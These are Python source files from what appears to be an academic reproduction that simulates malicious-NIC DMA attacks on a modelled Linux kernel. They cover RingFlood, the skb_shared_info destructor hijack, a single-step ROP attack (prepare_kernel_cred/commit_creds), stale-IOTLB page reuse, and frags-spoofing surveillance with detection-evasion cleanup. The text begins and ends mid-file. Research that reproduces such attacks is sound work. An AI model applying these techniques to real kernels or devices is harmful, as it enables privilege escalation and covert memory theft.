        trace.emit("attack", "poisoned-tx:done",
                   escalated=report.escalated)
    report.stage_log.append(f"escalated={report.escalated}")
    return report
