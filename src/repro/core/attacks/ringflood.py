"""The RingFlood compound attack (section 5.3).

"A malicious device can generate a poisoned ROP stack in each RX
buffer. However, ... the device has all the IOVA for the RX buffers,
but not the KVA. In this attack, we take advantage of the fact that
the boot process is *deterministic*."

Stages (each acquiring one vulnerability attribute):

1. **KASLR break** via TX-page leaks (init_net -> text base,
   freelist KVA -> page_offset_base). Needed to mint any KVA at all.
2. **PFN profiling** on an attacker-owned replica of the victim: boot
   it repeatedly and record which physical frames each RX ring slot
   lands on. On the victim, guess each slot's PFN as the replica's
   most frequent one. Attribute 1 = ``page_offset_base + pfn<<12 +
   in-page offset`` (the low 12 bits come straight off the slot's
   IOVA).
3. **Flood**: inject a packet into every ring slot, let the driver
   build the skbs, then -- through whatever Figure-7 window is open --
   rewrite each buffer's shared info to point ``destructor_arg`` at
   the guessed KVA of the fake ubuf planted in the same buffer.
   Every correct PFN guess detonates when its skb is freed.

The success probability grows with the driver's memory footprint,
which is why the 64 KiB HW-LRO buffers of kernel 4.15 (2 GiB/port)
made this attack so much more reliable than 5.0's 2 KiB entries.
"""

from __future__ import annotations

from collections import Counter
from dataclasses import dataclass, field
from typing import TYPE_CHECKING

from repro import trace
from repro.core.attacks.device import AttackerKnowledge, MaliciousDevice
from repro.core.attacks.kaslr_leak import break_kaslr_via_tx
from repro.core.attacks.shared_info import (execute_hijack, plan_hijack)
from repro.core.attacks.window import open_rx_window
from repro.core.attributes import VulnerabilityAttributes
from repro.errors import AttackFailed
from repro.mem.phys import PAGE_SIZE
from repro.net.proto import PROTO_UDP, make_packet
from repro.net.structs import skb_truesize

if TYPE_CHECKING:
    from repro.net.nic import Nic
    from repro.sim.kernel import Kernel


@dataclass
class BootProfile:
    """Replica-derived PFN statistics per RX ring slot."""

    nr_boots: int
    slot_pfns: dict[int, Counter] = field(default_factory=dict)

    def most_common_pfn(self, slot: int) -> int | None:
        counter = self.slot_pfns.get(slot)
        if not counter:
            return None
        return counter.most_common(1)[0][0]

    def candidate_pfn(self, slot: int, rank: int) -> int | None:
        """The rank-th most frequent PFN for *slot* (0 = modal)."""
        counter = self.slot_pfns.get(slot)
        if not counter:
            return None
        common = counter.most_common()
        if rank >= len(common):
            return None
        return common[rank][0]

    def repeat_rate(self, slot: int) -> float:
        """Fraction of boots in which the slot hit its modal PFN."""
        counter = self.slot_pfns.get(slot)
        if not counter:
            return 0.0
        return counter.most_common(1)[0][1] / self.nr_boots

    def mean_repeat_rate(self) -> float:
        if not self.slot_pfns:
            return 0.0
        return sum(self.repeat_rate(s) for s in self.slot_pfns) \
            / len(self.slot_pfns)


def profile_replica_boots(nr_boots: int, *, seed: int,
                          kernel_config: dict | None = None,
                          nic_config: dict | None = None,
                          nr_slots: int = 32, cpu: int = 0) -> BootProfile:
    """Boot an identical replica repeatedly and record slot->PFN.

    "We assume an attacker can gain access to an identical setup and
    identify the most common PFN." The replica is the attacker's own
    machine, so reading its ground truth (as root, via pagemap) is
    legitimate.
    """
    from repro.sim.kernel import Kernel  # deferred: avoid import cycle
    profile = BootProfile(nr_boots)
    for boot in range(nr_boots):
        kernel = Kernel(seed=seed, boot_index=boot,
                        **(kernel_config or {}))
        nic = kernel.add_nic("eth0", **(nic_config or {}))
        for slot, desc in enumerate(nic.rx_rings[cpu].descriptors):
            if slot >= nr_slots or not desc.posted:
                continue
            pfn = kernel.addr_space.pfn_of_kva(desc.kva)
            profile.slot_pfns.setdefault(slot, Counter())[pfn] += 1
    return profile


@dataclass
class RingFloodReport:
    attributes: VulnerabilityAttributes
    slots_flooded: int = 0
    slots_hijacked: int = 0
    correct_pfn_guesses: int = 0
    paths_used: set[str] = field(default_factory=set)
    escalated: bool = False
    stage_log: list[str] = field(default_factory=list)


def run_ringflood(kernel: "Kernel", nic: "Nic", device: MaliciousDevice,
                  profile: BootProfile, *, cpu: int = 0,
                  nr_slots: int = 32,
                  candidate_ranks: int = 3) -> RingFloodReport:
    """Execute RingFlood against a live victim kernel.

    Boot jitter makes per-boot layouts cluster around a handful of
    variants, so the flood makes one pass per candidate *rank*: pass 0
    guesses each slot's modal replica PFN, pass 1 the second most
    frequent, and so on -- multiplying the per-boot hit probability at
    the cost of more (harmless-looking) traffic.
    """
    attrs = VulnerabilityAttributes()
    report = RingFloodReport(attributes=attrs)

    # Stage 1: break KASLR from readable TX pages.
    with trace.span("attack", "ringflood:kaslr-break"):
        broke = break_kaslr_via_tx(kernel, nic, device, cpu=cpu)
    if not broke:
        report.stage_log.append("KASLR break failed; aborting")
        return report
    report.stage_log.extend(device.knowledge.notes)

    # Stage 2+3: flood the ring slot by slot. Per slot: inject a
    # packet, let the driver build the skb (initializing the shared
    # info), hijack through whatever Figure-7 window is open, then let
    # the stack consume -- and free -- the skb.
    truesize = skb_truesize(nic.rx_buf_size)
    attrs.record_callback_access(
        "skb_shared_info exposed at SKB_DATA_ALIGN(buf_size) in every "
        "RX buffer (type (b)); offsets from the public build")
    hijacked_any_path: set[str] = set()
    ring = nic.rx_rings[cpu]
    # the recorder cannot change mid-flood, so hoist the no-op
    # predicate out of the per-pass loop instead of re-evaluating it
    # for every rank
    attack_traced = "attack" in trace.active_categories
    for rank in range(candidate_ranks):
        if kernel.executor.creds.is_root:
            break
        if attack_traced:
            trace.emit("attack", "ringflood:flood-pass", rank=rank,
                       slots_flooded=report.slots_flooded,
                       slots_hijacked=report.slots_hijacked)
        for attempt in range(min(nr_slots, ring.nr_desc - 2)):
            desc = ring.next_for_device()
            if desc is None:
                break
            # Experiment-side ground truth, for the report only.
            actual_pfn = kernel.addr_space.pfn_of_kva(desc.kva)
            packet = make_packet(
                dst_ip=0x0A00_0001, dst_port=9000 + attempt,
                proto=PROTO_UDP, flow_id=0x7000 + attempt,
                payload=b"\x00" * 48)
            window = open_rx_window(kernel, nic, device, packet, cpu=cpu)
            slot, iova = window.slot, window.original_iova
            report.slots_flooded += 1

            guessed_pfn = profile.candidate_pfn(slot, rank)
            if guessed_pfn is None:
                kernel.stack.process_backlog()
                continue
            if actual_pfn == guessed_pfn:
                report.correct_pfn_guesses += 1
            in_page = iova & (PAGE_SIZE - 1)
            buffer_kva = device.knowledge.kva_of_pfn(guessed_pfn,
                                                     in_page)
            plan = plan_hijack(buffer_kva, nic.rx_buf_size)
            try:
                execute_hijack(window, plan)
                hijacked_any_path.update(window.paths_used)
                report.slots_hijacked += 1
            except AttackFailed:
                pass
            # Detonation: the backlog drain frees the skb.
            kernel.stack.process_backlog()
            if kernel.executor.creds.is_root:
                break
    report.paths_used = hijacked_any_path
    if report.slots_hijacked:
        attrs.record_window(
            f"write window via Figure-7 path(s) "
            f"{'+'.join(sorted(hijacked_any_path))}")
    if report.correct_pfn_guesses:
        attrs.record_kva(
            device.knowledge.kva_of_pfn(0),
            f"boot-deterministic PFN profile over {profile.nr_boots} "
            f"replica boots ({report.correct_pfn_guesses} correct guesses)")
    report.escalated = kernel.executor.creds.is_root
    if trace.enabled("attack"):
        trace.emit("attack", "ringflood:done",
                   escalated=report.escalated,
                   slots_flooded=report.slots_flooded,
                   slots_hijacked=report.slots_hijacked,
                   correct_pfn_guesses=report.correct_pfn_guesses,
                   paths=sorted(report.paths_used))
    report.stage_log.append(
        f"flooded {report.slots_flooded} slots, hijacked "
        f"{report.slots_hijacked}, {report.correct_pfn_guesses} correct "
        f"PFN guesses, escalated={report.escalated}")
    return report


def make_attacker(kernel: "Kernel", nic_name: str) -> MaliciousDevice:
    """Convenience: a malicious device behind *nic_name*'s IOMMU domain."""
    knowledge = AttackerKnowledge.from_public_build(kernel.image)
    return MaliciousDevice(kernel.iommu, nic_name, knowledge)
