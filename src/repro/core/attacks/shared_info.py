"""The skb_shared_info hijack (section 5.1, Figure 4).

Given a write window to an RX buffer and the buffer's KVA, the device:

(a/b) plants a fake ``ubuf_info`` + poisoned ROP stack inside the
      buffer's payload area,
(c)   points ``destructor_arg`` at the fake ubuf and sets the zerocopy
      bit in ``tx_flags`` so the release path consults it,
(d)   waits: "When the sk_buff is released, the callback is invoked."

Offsets come from public kernel-build knowledge: the shared info sits
at ``SKB_DATA_ALIGN(buf_size)`` and its field offsets are fixed by the
struct layout (unless ``__randomize_layout`` is enabled -- a defense
ablated separately).
"""

from __future__ import annotations

from dataclasses import dataclass

from repro.core.attacks.payload import UBUF_PAYLOAD_SIZE, build_attack_blob
from repro.core.attacks.window import BufferWriteWindow
from repro.net.skbuff import SKBTX_DEV_ZEROCOPY
from repro.net.structs import SKB_SHARED_INFO, skb_shared_info_offset

#: Where in the buffer's payload area the fake ubuf_info lands --
#: past the 16-byte wire header, attacker's choice.
DEFAULT_UBUF_OFFSET = 64

_TX_FLAGS_OFF = SKB_SHARED_INFO.field("tx_flags").offset
_DESTRUCTOR_ARG_OFF = SKB_SHARED_INFO.field("destructor_arg").offset
_NR_FRAGS_OFF = SKB_SHARED_INFO.field("nr_frags").offset


@dataclass(frozen=True)
class HijackPlan:
    """Byte-level plan for one buffer: what to write where."""

    ubuf_offset: int          # offset of the fake ubuf within the buffer
    shared_info_offset: int   # offset of skb_shared_info within the buffer
    ubuf_kva: int             # attribute 1: the KVA the chain needs


def plan_hijack(buffer_kva: int, buf_size: int, *,
                ubuf_offset: int = DEFAULT_UBUF_OFFSET) -> HijackPlan:
    """Compute the plan given the recovered buffer KVA (attribute 1)."""
    return HijackPlan(
        ubuf_offset=ubuf_offset,
        shared_info_offset=skb_shared_info_offset(buf_size),
        ubuf_kva=buffer_kva + ubuf_offset)


def hijack_is_feasible(window: BufferWriteWindow, plan: HijackPlan) -> bool:
    """Probe (without writing) that every hijack byte is reachable."""
    return (window.can_write_range(plan.ubuf_offset, UBUF_PAYLOAD_SIZE)
            and window.can_write_range(
                plan.shared_info_offset + _TX_FLAGS_OFF, 1)
            and window.can_write_range(
                plan.shared_info_offset + _DESTRUCTOR_ARG_OFF, 8))


def execute_hijack(window: BufferWriteWindow, plan: HijackPlan) -> str:
    """Perform steps (b)+(c) of Figure 4 through *window*.

    Every write goes through the IOMMU by whatever Figure-7 path the
    window can find per byte range. Returns the paths used.
    """
    blob = build_attack_blob(window.device.knowledge)
    window.write(plan.ubuf_offset, blob)
    base = plan.shared_info_offset
    window.write(base + _TX_FLAGS_OFF, bytes([SKBTX_DEV_ZEROCOPY]))
    window.write_u64(base + _DESTRUCTOR_ARG_OFF, plan.ubuf_kva)
    return "+".join(sorted(window.paths_used))


def spoof_frags(window: BufferWriteWindow, buf_size: int,
                entries: list[tuple[int, int, int]]) -> None:
    """Overwrite frags[] with arbitrary (struct_page_ptr, offset, size).

    The surveillance primitive of section 5.5: on a forwarding host the
    driver will dma_map each spoofed page for READ when the skb is
    transmitted, giving the device read access to any page it names.
    """
    base = skb_shared_info_offset(buf_size)
    for i, (page_ptr, offset, size) in enumerate(entries):
        field_off = SKB_SHARED_INFO.field(f"frags[{i}].page").offset
        window.write_u64(base + field_off, page_ptr)
        window.write(base + field_off + 8,
                     offset.to_bytes(4, "little")
                     + size.to_bytes(4, "little"))
    window.write(base + _NR_FRAGS_OFF, bytes([len(entries)]))


def clear_frags(window: BufferWriteWindow, buf_size: int) -> None:
    """Undo a frags spoof before TX completion (stability, section 5.5)."""
    window.write(skb_shared_info_offset(buf_size) + _NR_FRAGS_OFF,
                 bytes([0]))
