"""The single-step attack baseline (sections 1, 5; Thunderclap-style).

"All previously reported attacks are *single-step*, with the
vulnerability attributes present in a single page": a driver embeds its
I/O buffer inside a larger command structure (type (a), Figure 1a) and
maps it BIDIRECTIONAL, so one mapped page simultaneously exposes

1. the structure's *self pointer* (list linkage) -- the KVA,
2. a completion *callback pointer* -- writable at a known offset,
3. a persistent mapping -- the window is trivial.

``LegacyCmdDriver`` is the synthetic vulnerable driver (modeled on the
FireWire/NVMe patterns SPADE flags); :func:`run_single_step` is the
attack, which needs no compound stages at all.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import TYPE_CHECKING

from repro.core.attacks.device import MaliciousDevice
from repro.core.attributes import VulnerabilityAttributes
from repro.cpu.exec import STOP_RIP
from repro.errors import (AttackFailed, ControlFlowViolation,
                          ExecutionFault, NxViolation)
from repro.kaslr.leak import TEXT_LOW_MASK
from repro.mem.accounting import AllocSite

if TYPE_CHECKING:
    from repro.sim.kernel import Kernel

#: struct legacy_cmd layout (public build knowledge):
#:   0x00  void (*done)(struct legacy_cmd *)   completion callback
#:   0x08  struct legacy_cmd *self             list linkage (KVA leak)
#:   0x18  char buffer[EMBED_BUF_SIZE]         the mapped I/O buffer
CMD_DONE_OFFSET = 0x00
CMD_SELF_OFFSET = 0x08
CMD_OPS_OFFSET = 0x10
CMD_BUFFER_OFFSET = 0x18
EMBED_BUF_SIZE = 256
CMD_STRUCT_SIZE = CMD_BUFFER_OFFSET + EMBED_BUF_SIZE


class LegacyCmdDriver:
    """A driver with the classic type-(a) bug: it maps ``&cmd->buffer``
    but page granularity exposes the whole command structure."""

    def __init__(self, kernel: "Kernel", device_name: str = "fw0") -> None:
        self.kernel = kernel
        self.device_name = device_name
        kernel.iommu.attach_device(device_name)
        self.cmd_kva = kernel.slab.kmalloc(
            CMD_STRUCT_SIZE, site=AllocSite("legacy_alloc_cmd", 0x44, 0xE0))
        paddr = kernel.addr_space.paddr_of_kva(self.cmd_kva)
        phys = kernel.phys
        phys.write_u64(paddr + CMD_DONE_OFFSET,
                       kernel.symbol_address("nvme_fc_fcpio_done"))
        phys.write_u64(paddr + CMD_SELF_OFFSET, self.cmd_kva)
        phys.write_u64(paddr + CMD_OPS_OFFSET,
                       kernel.symbol_address("nvme_fc_fcpio_done"))
        # The bug: maps the embedded buffer, exposing the whole page.
        self.iova = kernel.dma.dma_map_single(
            device_name, self.cmd_kva + CMD_BUFFER_OFFSET, EMBED_BUF_SIZE,
            "DMA_BIDIRECTIONAL",
            site=AllocSite("legacy_queue_cmd", 0x9C, 0x210))

    def complete_io(self):
        """Completion path: call ``cmd->done(cmd)`` -- from memory."""
        paddr = self.kernel.addr_space.paddr_of_kva(self.cmd_kva)
        done = self.kernel.phys.read_u64(paddr + CMD_DONE_OFFSET)
        return self.kernel.executor.invoke_callback(done, rdi=self.cmd_kva)


@dataclass
class SingleStepReport:
    attributes: VulnerabilityAttributes
    escalated: bool = False
    oops: str | None = None
    stage_log: list[str] = field(default_factory=list)


def run_single_step(kernel: "Kernel", driver: LegacyCmdDriver,
                    device: MaliciousDevice) -> SingleStepReport:
    """One page read + one page write = code injection."""
    attrs = VulnerabilityAttributes()
    report = SingleStepReport(attributes=attrs)
    page_iova = driver.iova & ~0xFFF
    cmd_page_offset = (driver.iova & 0xFFF) - CMD_BUFFER_OFFSET
    if cmd_page_offset < 0:
        raise AttackFailed("command struct straddles the page "
                           "(rare layout); retry", stage="layout")
    page = device.dma_read(page_iova, 4096)

    # Attribute 1 (and KASLR): both leak from the very same page.
    self_kva = int.from_bytes(
        page[cmd_page_offset + CMD_SELF_OFFSET:][:8], "little")
    ops_ptr = int.from_bytes(
        page[cmd_page_offset + CMD_OPS_OFFSET:][:8], "little")
    for name, offset in device.knowledge.symbol_offsets.items():
        if (ops_ptr & TEXT_LOW_MASK) == (offset & TEXT_LOW_MASK):
            device.knowledge.text_base = ops_ptr - offset
            report.stage_log.append(
                f"text base {device.knowledge.text_base:#x} via leaked "
                f"&{name} on the same page")
            break
    attrs.record_kva(self_kva, "struct's own list pointer on the mapped "
                               "page (type (a))")
    attrs.record_callback_access(
        f"cmd->done at struct offset {CMD_DONE_OFFSET:#x}, same page")
    attrs.record_window("mapping is persistent (BIDIRECTIONAL, long-lived)")

    # Plant the ROP chain in the embedded buffer; the pivot gets the
    # struct pointer in rdi, so the chain sits at cmd + pivot_const.
    if device.knowledge.text_base is None:
        report.stage_log.append("no text leak; cannot build chain")
        return report
    know = device.knowledge
    chain = [know.gadget_kva("pop rdi"), 0,
             know.symbol_kva("prepare_kernel_cred"),
             know.gadget_kva("mov rdi, rax"),
             know.symbol_kva("commit_creds"), STOP_RIP]
    chain_cmd_offset = know.pivot_const  # rsp = rdi + const
    blob = b"".join(q.to_bytes(8, "little") for q in chain)
    device.dma_write(
        page_iova + cmd_page_offset + chain_cmd_offset, blob)
    device.dma_write_u64(page_iova + cmd_page_offset + CMD_DONE_OFFSET,
                         know.gadget_kva("pivot"))

    try:
        driver.complete_io()
    except (NxViolation, ControlFlowViolation, ExecutionFault) as exc:
        report.oops = str(exc)
        report.stage_log.append(f"kernel oops: {exc}")
    report.escalated = kernel.executor.creds.is_root
    report.stage_log.append(f"escalated={report.escalated}")
    return report
