"""Hot-page-reuse corruption through a stale IOTLB entry (§5.2.1).

The deferred window's second consequence: "The page can be freed and
then immediately reused by the OS. Fast reuse is a common scenario
since Linux reuses *hot* pages ... this also leaves the kernel open to
additional random exposure attacks."

The demonstration: an I/O page is unmapped and freed; the per-CPU hot
list hands the very same frame to the next slab refill; a kernel
object that was *never DMA-mapped* now lives on a page the device can
still write through its stale translation -- and gets corrupted.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import TYPE_CHECKING

from repro.core.attacks.device import MaliciousDevice
from repro.errors import IommuFault
from repro.mem.accounting import AllocSite
from repro.mem.phys import PAGE_SIZE

if TYPE_CHECKING:
    from repro.sim.kernel import Kernel


@dataclass
class StaleReuseReport:
    page_reused: bool = False
    victim_corrupted: bool = False
    write_faulted: bool = False
    stage_log: list[str] = field(default_factory=list)


def run_stale_reuse(kernel: "Kernel", device: MaliciousDevice, *,
                    marker: bytes = b"CORRUPTED-BY-DMA") -> StaleReuseReport:
    """Corrupt a never-mapped kernel object via page reuse.

    Under strict invalidation the stale write faults and the attack
    fails -- this specific vector (unlike the compound attacks) is
    fully closed by strict mode, which the report shows.
    """
    report = StaleReuseReport()
    kernel.iommu.attach_device(device.device_name)

    # 1. A legitimate I/O page: mapped WRITE, warmed, unmapped, freed.
    pfn = kernel.buddy.alloc_page(site=AllocSite("swiotlb_scratch"))
    iova = kernel.dma.dma_map_page(device.device_name, pfn, 0,
                                   PAGE_SIZE, "DMA_FROM_DEVICE")
    device.dma_write(iova, b"\x00" * 8)  # warms the IOTLB
    kernel.dma.dma_unmap_page(device.device_name, iova, PAGE_SIZE,
                              "DMA_FROM_DEVICE")
    kernel.buddy.free_pages(pfn)
    report.stage_log.append(
        f"I/O page PFN {pfn:#x} unmapped and freed (hot per-CPU list)")

    # 2. The kernel's next slab refill reuses the hot frame for
    # objects that were never meant to be device-visible.
    victims = [kernel.slab.kmalloc(192, site=AllocSite("prepare_creds",
                                                       0x2F, 0x180))
               for _ in range(4)]
    victim_pfns = {kernel.addr_space.pfn_of_kva(kva) for kva in victims}
    report.page_reused = pfn in victim_pfns
    report.stage_log.append(
        f"slab refill landed on PFNs {sorted(hex(p) for p in victim_pfns)}"
        f" (reused={report.page_reused})")

    # 3. The device writes through its stale translation.
    try:
        device.dma_write(iova, marker * (PAGE_SIZE // len(marker)))
    except IommuFault:
        report.write_faulted = True
        report.stage_log.append(
            "stale write FAULTED (strict invalidation closes this "
            "vector completely)")
        return report
    report.stage_log.append("stale write landed after free+reuse")

    # 4. Inspect the never-mapped victim objects.
    for kva in victims:
        if kernel.cpu_read(kva, len(marker),
                           site=AllocSite("cred_validate")) == marker:
            report.victim_corrupted = True
            report.stage_log.append(
                f"kernel object at {kva:#x} (never DMA-mapped) now "
                f"holds attacker bytes")
            break
    return report
