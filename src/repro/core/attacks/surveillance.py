"""Arbitrary-page surveillance via frags spoofing (section 5.5).

"Instead of sending a TCP packet and letting the GRO layer fill in the
frags information, the NIC can generate a small UDP packet and fill in
the frags array with any arbitrary struct page addresses within the
system. As a result, the driver maps these pages, providing READ
access to the NIC for any page in the system."

And the stability requirement: "To avoid detection and preserve OS
stability, the device must undo the changes to skb_shared_info before
creating a TX completion."
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import TYPE_CHECKING

from repro.core.attacks.device import MaliciousDevice
from repro.core.attacks.shared_info import clear_frags, spoof_frags
from repro.core.attacks.window import open_rx_window_covering
from repro.net.structs import SKB_SHARED_INFO, skb_shared_info_offset
from repro.core.attributes import VulnerabilityAttributes
from repro.errors import AttackFailed
from repro.kaslr.layout import STRUCT_PAGE_SIZE
from repro.mem.phys import PAGE_SIZE
from repro.net.proto import PROTO_UDP, make_packet

if TYPE_CHECKING:
    from repro.net.nic import Nic
    from repro.sim.kernel import Kernel

#: Non-local destination that a forwarding victim will route outward.
REMOTE_IP = 0x0B00_0042


@dataclass
class SurveillanceReport:
    pages_read: dict[int, bytes] = field(default_factory=dict)
    undone: bool = False
    stage_log: list[str] = field(default_factory=list)


def read_arbitrary_pages(kernel: "Kernel", nic: "Nic",
                         device: MaliciousDevice, pfns: list[int], *,
                         cpu: int = 0, undo: bool = True
                         ) -> SurveillanceReport:
    """Read up to 17 arbitrary physical pages through one spoofed packet.

    Requires packet forwarding enabled on the victim and a recovered
    ``vmemmap_base`` (one struct-page leak).
    """
    if device.knowledge.vmemmap_base is None:
        raise AttackFailed("vmemmap_base unknown; cannot forge struct "
                           "page pointers", stage="surveillance")
    if len(pfns) > 17:
        raise AttackFailed("at most MAX_SKB_FRAGS (17) pages per packet",
                           stage="surveillance")
    report = SurveillanceReport()
    info_base = skb_shared_info_offset(nic.rx_buf_size)
    frag0_off = SKB_SHARED_INFO.field("frags[0].page").offset
    nr_frags_off = SKB_SHARED_INFO.field("nr_frags").offset
    window = open_rx_window_covering(
        kernel, nic, device,
        lambda i: make_packet(dst_ip=REMOTE_IP, proto=PROTO_UDP,
                              dst_port=53, flow_id=0x5100 + i,
                              payload=b"\x00" * 32),
        [(info_base + frag0_off, 16 * len(pfns)),
         (info_base + nr_frags_off, 1)],
        cpu=cpu)
    entries = [(device.knowledge.vmemmap_base + pfn * STRUCT_PAGE_SIZE,
                0, PAGE_SIZE) for pfn in pfns]
    spoof_frags(window, nic.rx_buf_size, entries)
    report.stage_log.append(
        f"spoofed {len(entries)} frags into the forwarded skb")

    # The victim forwards the skb; the driver maps every spoofed page.
    kernel.stack.process_backlog()
    for desc2, data in nic.device_fetch_tx(cpu=cpu, complete=False):
        wire_len = desc2.linear_len
        for i, (_iova, size) in enumerate(desc2.frag_iovas):
            if i < len(pfns):
                start = wire_len + sum(s for _1, s in desc2.frag_iovas[:i])
                report.pages_read[pfns[i]] = data[start:start + size]
        if undo:
            # Stability: clear nr_frags before completing, or the free
            # path trips over pages nobody accounted for.
            clear_frags(window, nic.rx_buf_size)
            report.undone = True
        nic.device_complete_tx(desc2)
    nic.tx_clean(cpu=cpu)
    report.stage_log.append(
        f"read {len(report.pages_read)} pages; undo={report.undone}, "
        f"oopses so far: {kernel.stack.stats.oopses}")
    return report


def surveil_for_kaslr(kernel: "Kernel", nic: "Nic",
                      device: MaliciousDevice, *, start_pfn: int = 64,
                      max_pages: int = 340, cpu: int = 0) -> bool:
    """Scan low physical memory for KASLR-breaking leaks.

    Low-memory pages hold early slab allocations: SLUB freelists
    (direct-map KVAs -> page_offset_base) and socket/namespace objects
    (&init_net -> text base).
    """
    attrs = VulnerabilityAttributes()
    pfn = start_pfn
    scanned = 0
    while scanned < max_pages and not (device.knowledge.text_base
                                       and device.knowledge.page_offset_base):
        batch = list(range(pfn, pfn + 17))
        pfn += 17
        scanned += 17
        report = read_arbitrary_pages(kernel, nic, device, batch, cpu=cpu)
        leaks = []
        for page_pfn, data in report.pages_read.items():
            leaks.extend(device.leak_scanner.scan(data))
        device.try_recover_text_base(leaks)
        if device.knowledge.page_offset_base is None:
            from collections import Counter
            votes: Counter[int] = Counter()
            for leak in leaks:
                if leak.region.name == "direct_map":
                    base, _ = device.leak_scanner. \
                        recover_bases_from_direct_map_leak(leak.value)
                    votes[base] += 1
            if votes:
                device.knowledge.page_offset_base = \
                    votes.most_common(1)[0][0]
                device.knowledge.notes.append(
                    f"page_offset_base via surveillance of "
                    f"{scanned} low-memory pages")
    return bool(device.knowledge.text_base
                and device.knowledge.page_offset_base)
