"""Time-window acquisition: the three paths of Figure 7 (section 5.2).

After the CPU initializes ``skb_shared_info`` in a received buffer, a
device can still modify it via:

* **path (i)** -- the driver builds the skb *before* unmapping
  (i40e-style ordering), so the original mapping is simply still live;
* **path (ii)** -- deferred IOTLB invalidation (the Linux default): the
  mapping is gone from the page table but the cached translation works
  until the periodic flush;
* **path (iii)** -- even under strict invalidation, a co-located
  buffer's live IOVA (type (c), ``page_frag`` adjacency) reaches the
  same physical page: "the NIC ... can use the IOVA for the next data
  buffer" (section 5.2.2).

:class:`BufferWriteWindow` abstracts "a way to write byte *x* of the
target buffer": it resolves each write to an IOVA through the original
mapping or through a re-based neighbour mapping, probing the IOMMU for
reachability exactly as a device would (attempt the DMA, observe the
abort).

Neighbour arithmetic: ``page_frag`` hands RX buffers out back-to-front,
so the buffer posted after the target starts ``truesize`` bytes below
it and the one before ends ``truesize`` bytes above. Because an IOVA
mapping is page-contiguous over the pages its buffer touches, byte
``x`` of the target is reachable through neighbour ``m`` at
``iova_m + x + delta`` (``delta`` = signed start distance) whenever
that address stays inside the pages neighbour ``m`` mapped -- i.e.
whenever the target byte shares a page with the neighbour's buffer.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from repro.core.attacks.device import MaliciousDevice
from repro.errors import AttackFailed
from repro.mem.phys import PAGE_SIZE


@dataclass
class RingNeighbor:
    """One other ring buffer the attacker may pivot through."""

    iova: int
    #: signed distance from the target buffer's start to this buffer's
    #: start, in bytes (page_frag: -truesize for the next-posted buffer)
    start_delta: int
    truesize: int

    def iova_for(self, byte_offset: int) -> int | None:
        """IOVA of target byte *byte_offset* via this mapping, if covered."""
        relative = byte_offset - self.start_delta
        in_first_page = self.iova & (PAGE_SIZE - 1)
        position = in_first_page + relative
        nr_pages = (in_first_page + self.truesize - 1) // PAGE_SIZE + 1
        if 0 <= position < nr_pages * PAGE_SIZE:
            return self.iova + relative
        return None


@dataclass
class BufferWriteWindow:
    """Write access to one target buffer, by whatever path works."""

    device: MaliciousDevice
    original_iova: int
    truesize: int
    #: the original mapping is still live (path (i) -- only true inside
    #: the skb_first race)
    mapping_live: bool = False
    #: False when the device observed its IOVA re-posted on the ring:
    #: under strict invalidation the IOVA range is recycled instantly,
    #: so writes through it would hit the *refill* buffer, not the
    #: target. The descriptor ring makes the reuse device-visible.
    original_valid: bool = True
    neighbors: list[RingNeighbor] = field(default_factory=list)
    paths_used: set[str] = field(default_factory=set)
    #: ring slot of the target buffer (set by open_rx_window)
    slot: int = -1

    def _candidates(self, byte_offset: int) -> list[tuple[str, int]]:
        out: list[tuple[str, int]] = []
        if self.original_valid:
            out.append(("i" if self.mapping_live else "ii",
                        self.original_iova + byte_offset))
        for neighbor in self.neighbors:
            iova = neighbor.iova_for(byte_offset)
            if iova is not None:
                out.append(("iii", iova))
        return out

    def resolve(self, byte_offset: int, length: int = 1
                ) -> tuple[str, int] | None:
        """(path, iova) able to write [byte_offset, +length), or None."""
        for path, iova in self._candidates(byte_offset):
            if self.device.can_write(iova) \
                    and self.device.can_write(iova + length - 1):
                return path, iova
        return None

    def write(self, byte_offset: int, data: bytes) -> str:
        """Write *data* at the target buffer's *byte_offset*.

        Splits across page boundaries so each fragment can travel by a
        different path. Returns the paths used (joined); raises
        :class:`AttackFailed` if any byte is unreachable.
        """
        cursor = byte_offset
        view = memoryview(data)
        while view.nbytes > 0:
            resolved_any = False
            for path, iova in self._candidates(cursor):
                chunk = min(view.nbytes,
                            PAGE_SIZE - (iova & (PAGE_SIZE - 1)))
                if self.device.can_write(iova) and \
                        self.device.can_write(iova + chunk - 1):
                    self.device.dma_write(iova, bytes(view[:chunk]))
                    self.paths_used.add(path)
                    cursor += chunk
                    view = view[chunk:]
                    resolved_any = True
                    break
            if not resolved_any:
                raise AttackFailed(
                    f"no write path to buffer offset {cursor:#x}",
                    stage="time-window")
        return "+".join(sorted(self.paths_used))

    def write_u64(self, byte_offset: int, value: int) -> str:
        return self.write(byte_offset, value.to_bytes(8, "little"))

    def can_write_range(self, byte_offset: int, length: int) -> bool:
        """Probe without writing (per page, like split writes would)."""
        cursor = byte_offset
        remaining = length
        while remaining > 0:
            hit = None
            for _path, iova in self._candidates(cursor):
                chunk = min(remaining, PAGE_SIZE - (iova & (PAGE_SIZE - 1)))
                if self.device.can_write(iova) and \
                        self.device.can_write(iova + chunk - 1):
                    hit = chunk
                    break
            if hit is None:
                return False
            cursor += hit
            remaining -= hit
        return True


def ring_window(device: MaliciousDevice, ring: list[tuple[int, int]],
                target_index: int, *, mapping_live: bool = False,
                original_valid: bool = True) -> BufferWriteWindow:
    """Build a window for ring slot *target_index*.

    *ring* is the device-visible list of (iova, truesize) in posting
    order; page_frag allocation order means slot j+1 lies truesize
    below slot j (until a chunk boundary, which the probes discover).
    """
    iova, truesize = ring[target_index]
    neighbors = []
    for m, (n_iova, n_truesize) in enumerate(ring):
        if m == target_index:
            continue
        delta = (m - target_index) * -truesize
        neighbors.append(RingNeighbor(n_iova, delta, n_truesize))
    return BufferWriteWindow(device, iova, truesize,
                             mapping_live=mapping_live,
                             original_valid=original_valid,
                             neighbors=neighbors)


def open_rx_window(kernel, nic, device: MaliciousDevice,
                   wire_bytes: bytes, *, cpu: int = 0
                   ) -> BufferWriteWindow:
    """Inject a packet and open a post-delivery window on its buffer.

    The shared boilerplate of every compound attack's hijack stage:
    fill the next RX slot, warm the IOTLB over the buffer's full span
    while the mapping is live, let the driver build the skb (which
    initializes the shared info), then assemble the window -- the
    stale original IOVA (unless the device saw it re-posted) plus the
    next two still-posted neighbours.
    """
    from repro.errors import AttackFailed  # local: avoid module cycle
    from repro.net.structs import skb_truesize

